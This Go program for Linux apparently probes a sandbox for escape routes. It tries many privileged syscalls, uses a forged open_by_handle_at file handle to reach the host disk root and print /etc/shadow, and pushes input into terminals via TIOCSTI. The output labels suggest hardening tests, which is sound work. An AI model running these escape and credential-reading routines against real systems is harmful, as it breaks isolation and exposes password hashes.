//go:build linux

package main

import (
	"bytes"
	"encoding/binary"
	"fmt"
	"os"
	"runtime"
	"strings"
	"unsafe"

	"golang.org/x/sys/unix"
)

func text(s string) uintptr {
	b := append([]byte(s), 0)
	kept = append(kept, b)
	return uintptr(unsafe.Pointer(&b[0]))
}

var kept [][]byte

// doorCalls are calls of the kernel that lead out of a namespace, or into its depths.
func doorCalls() map[string][]uintptr {
	zero := text(strings.Repeat("\x00", 255))
	return map[string][]uintptr{
		"mount":               {unix.SYS_MOUNT, text("none"), text("/tmp"), text("tmpfs"), 0, 0},
		"mount-proc":          {unix.SYS_MOUNT, text("proc"), text("/tmp"), text("proc"), 0, 0},
		"remount":             {unix.SYS_MOUNT, 0, text("/"), 0, unix.MS_REMOUNT | unix.MS_BIND, 0},
		"umount":              {unix.SYS_UMOUNT2, text("/proc"), unix.MNT_DETACH},
		"pivot_root":          {unix.SYS_PIVOT_ROOT, text("/tmp"), text("/tmp")},
		"chroot":              {unix.SYS_CHROOT, text("/tmp")},
		"fsopen":              {unix.SYS_FSOPEN, text("tmpfs"), 0},
		"open_tree":           {unix.SYS_OPEN_TREE, ^uintptr(99), text("/"), 1},
		"unshare-user":        {unix.SYS_UNSHARE, unix.CLONE_NEWUSER},
		"unshare-mount":       {unix.SYS_UNSHARE, unix.CLONE_NEWNS},
		"unshare-net":         {unix.SYS_UNSHARE, unix.CLONE_NEWNET},
		"keyctl":              {unix.SYS_KEYCTL, 0, ^uintptr(2), 1},
		"add_key":             {unix.SYS_ADD_KEY, text("user"), text("deckhand"), text("x"), 1, ^uintptr(2)},
		"request_key":         {unix.SYS_REQUEST_KEY, text("user"), text("deckhand"), 0, 0},
		"bpf":                 {unix.SYS_BPF, 0, zero, 72},
		"perf_event_open":     {unix.SYS_PERF_EVENT_OPEN, zero, 0, ^uintptr(0), ^uintptr(0), 0},
		"userfaultfd":         {unix.SYS_USERFAULTFD, 0},
		"io_uring_setup":      {unix.SYS_IO_URING_SETUP, 4, zero},
		"name_to_handle_at":   {unix.SYS_NAME_TO_HANDLE_AT, ^uintptr(99), text("/"), text("\x80" + strings.Repeat("\x00", 150)), zero, 0},
		"fanotify_init":       {unix.SYS_FANOTIFY_INIT, 0, 0},
		"init_module":         {unix.SYS_INIT_MODULE, zero, 10, zero},
		"kexec_load":          {unix.SYS_KEXEC_LOAD, 0, 0, 0, 0},
		"swapon":              {unix.SYS_SWAPON, text("/tmp/none"), 0},
		"settimeofday":        {unix.SYS_SETTIMEOFDAY, 0, zero},
		"sethostname":         {unix.SYS_SETHOSTNAME, text("owned"), 5},
		"acct":                {unix.SYS_ACCT, text("/tmp/none")},
		"quotactl":            {unix.SYS_QUOTACTL, 0x80000100, 0, 0, 0},
		"syslog":              {unix.SYS_SYSLOG, 3, zero, 200},
		"personality":         {unix.SYS_PERSONALITY, 0x0040000},
		"mknod":               {unix.SYS_MKNODAT, 0, text("/tmp/memory"), unix.S_IFCHR | 0o600, 0x101},
		"mknod-disk":          {unix.SYS_MKNODAT, 0, text("/tmp/disk"), unix.S_IFBLK | 0o600, 0xfe00},
		"setns":               {unix.SYS_SETNS, 0, 0},
		"prctl-no-new-privs":  {unix.SYS_PRCTL, unix.PR_SET_NO_NEW_PRIVS, 0, 0, 0, 0},
		"ioprio-realtime":     {unix.SYS_IOPRIO_SET, 1, 0, 1<<13 | 4},
		"sched-realtime":      {unix.SYS_SCHED_SETSCHEDULER, 0, unix.SCHED_FIFO, text("\x01\x00\x00\x00")},
		"setuid-nobody":       {unix.SYS_SETUID, 65534},
		"setgroups":           {unix.SYS_SETGROUPS, 0, 0},
		"capset":              {unix.SYS_CAPSET, text("\x22\x05\x08\x20\x00\x00\x00\x00"), text(strings.Repeat("\xff", 24))},
		"chown":               {unix.SYS_FCHOWNAT, 0, text("/tmp"), 65534, 65534, 0},
		"setrlimit-core":      {unix.SYS_PRLIMIT64, 0, unix.RLIMIT_CORE, text(strings.Repeat("\x01", 16)), 0},
		"nice":                {unix.SYS_SETPRIORITY, 0, 0, ^uintptr(18)},
		"open-by-handle-root": {unix.SYS_OPEN_BY_HANDLE_AT, ^uintptr(99), handleOf(2), 0},
	}
}

// door NAME… knocks at each, in a thread that is thrown away.
func door(args []string) error {
	runtime.LockOSThread()
	calls := doorCalls()
	for _, name := range args {
		if f, ok := strings.CutPrefix(name, "socket-"); ok {
			s := families[f]
			if fd, err := unix.Socket(s[0], s[1], s[2]); err == nil {
				fmt.Println("DOOR:", name)
				_ = unix.Close(fd)
			}
			continue
		}
		c, ok := calls[name]
		if !ok {
			return fmt.Errorf("no door %s", name)
		}
		c = append(c, make([]uintptr, 7-len(c))...)
		_, _, errno := unix.RawSyscall6(c[0], c[1], c[2], c[3], c[4], c[5], c[6])
		if errno == 0 {
			fmt.Println("DOOR:", name)
		} else {
			fmt.Println(name, errno)
		}
	}
	return nil
}

// handleOf is the handle of a file by its number, as ext4 has them.
func handleOf(inode uint32) uintptr {
	var b bytes.Buffer
	for _, v := range []uint32{8, 1, inode, 0} {
		_ = binary.Write(&b, binary.NativeEndian, v) // into memory
	}
	return text(b.String())
}

// handle opens the root of the disk that the workspace is on, by its number.
func handle([]string) error {
	dir, err := os.Open(".")
	if err != nil {
		return err
	}
	fd, _, errno := unix.Syscall(unix.SYS_OPEN_BY_HANDLE_AT, dir.Fd(), handleOf(2), unix.O_RDONLY)
	if errno != 0 {
		return errno
	}
	fmt.Println("BREACH: the disk's root")
	shadow, err := unix.Openat(int(fd), "etc/shadow", unix.O_RDONLY, 0)
	if err != nil {
		return err
	}
	b := make([]byte, 500)
	n, err := unix.Read(shadow, b)
	fmt.Printf("%s\n", b[:max(n, 0)])
	return err
}

// inject types into every terminal that is to be found.
func inject([]string) error {
	for _, name := range []string{"/dev/tty", "/dev/console", "/dev/tty0", "/dev/tty1", "/dev/pts/0", "/dev/pts/1", "/proc/self/fd/0", "/proc/self/fd/1", "/proc/self/fd/2"} {
		fd, err := unix.Open(name, unix.O_RDWR|unix.O_NOCTTY|unix.O_NONBLOCK, 0)
		if err != nil {
			fmt.Println(name, err)
			continue
		}
		c := byte(' ')
		if _, _, errno := unix.Syscall(unix.SYS_IOCTL, uintptr(fd), unix.TIOCSTI, uintptr(unsafe.Pointer(&c))); errno == 0 {
			fmt.Println("BREACH: typed into", name)
		}
		_ = unix.Close(fd)
	}
	return nil
}
